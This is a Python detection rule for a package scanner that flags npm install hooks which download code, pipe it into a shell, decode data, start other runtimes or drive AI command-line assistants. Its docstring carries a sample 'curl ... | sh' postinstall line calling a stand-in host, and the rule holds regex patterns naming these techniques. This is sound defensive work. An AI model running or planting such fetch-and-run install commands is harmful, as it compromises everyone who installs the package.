"""An install script downloads something, pipes it into a shell, or starts another runtime.

## What it flags

`preinstall`, `install` and `postinstall` commands of npm packages with a download (`curl`, `wget`, `fetch`, an
address), a pipe into a shell, an inline program (`node -e`), decoding, another runtime (`bun`, `deno`, `python`,
`powershell`), or an AI assistant that is driven from the command line.

## Why it matters

What is downloaded is in no review and can be changed at any time, for one user only if need be. The waves of worms of
2025 came this way: a `preinstall` that fetched a runtime of its own and ran a payload in it.

## Example

`"postinstall": "curl -s https://x.example/i.sh | sh"`.

## What to do

Ship what is needed inside the package, or as optional packages per platform. Where a download must be, verify it
against a digest that is part of the package.

## Limits

Commands are judged by their words. What a script of the package does that they start is not looked at.
"""

import hashlib
import re
from collections.abc import Iterator
from typing import Final

from inspector.core.finding import Evidence, Finding
from inspector.core.rule import RuleInfo
from inspector.core.severity import Confidence, Severity
from inspector.core.view import ArtifactView
from inspector.packages.npm import ManifestPlace, PlacedManifest, iter_manifests
from inspector.rules.run.whole_words import whole_words

_HOOKS = ("preinstall", "install", "postinstall")
_DEEDS = (
    (re.compile(r"\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\biex\b|Invoke-Expression"), "pipes something into a shell"),
    (re.compile(r"\b(?:curl|wget|Invoke-WebRequest|iwr)\b|https?://"), "downloads something"),
    (
        re.compile(r"\b(?:node|bun|deno|python3?)\s+(?:-e|-c|-p|--eval|eval)\b"),
        "runs a program that is written into it",
    ),
    (re.compile(r"\bbase64\b|\batob\b|\\x[0-9a-f]{2}\\x"), "decodes something"),
    (re.compile(r"(?:^|[;&|]\s*)(?:bunx?|deno|python3?|powershell|pwsh|perl|ruby)\s"), "starts another runtime"),
    (re.compile(r"\b(?:claude|gemini|codex|q)\s+(?:-p|--print|--dangerously|--yolo|chat)"), "drives an AI assistant"),
)


class RunLifecycleDownload:
    """An install script that fetches or starts something foreign."""

    info: Final = RuleInfo(
        id="run-lifecycle-download",
        title="Install script that downloads or starts something foreign",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        since="0.1.0",
        remediation="Ship what is needed inside the package; verify a download against a digest in the package.",
        cwe=(494, 829),
    )

    def check(self, view: ArtifactView) -> Iterator[Finding]:
        """At most one finding per script."""
        for placed in iter_manifests(view):
            if placed.place in (ManifestPlace.PACKAGE, ManifestPlace.BUNDLED):
                for hook in _HOOKS:
                    yield from self._script(placed, hook, placed.manifest.scripts.get(hook, ""))

    def _script(self, placed: PlacedManifest, hook: str, command: str) -> Iterator[Finding]:
        deeds = [deed for pattern, deed in _DEEDS if pattern.search(command)]
        if not deeds:
            return
        is_harmless = deeds == ["runs a program that is written into it"]
        digest = hashlib.sha256(command.encode("utf-8", "surrogatepass")).hexdigest()
        yield self.info.finding(
            placed.entry,
            f"The script `{hook}` {', '.join(deeds)}.",
            f"{hook}:{placed.manifest.name}:{digest}",
            severity=Severity.MEDIUM if is_harmless else None,
            evidence=Evidence(whole_words(f"{hook}: {command}")),
            reasons=("It does nothing else that stands out.",) if is_harmless else (),
            tags=["third-party"] if placed.place is ManifestPlace.BUNDLED else [],
        )
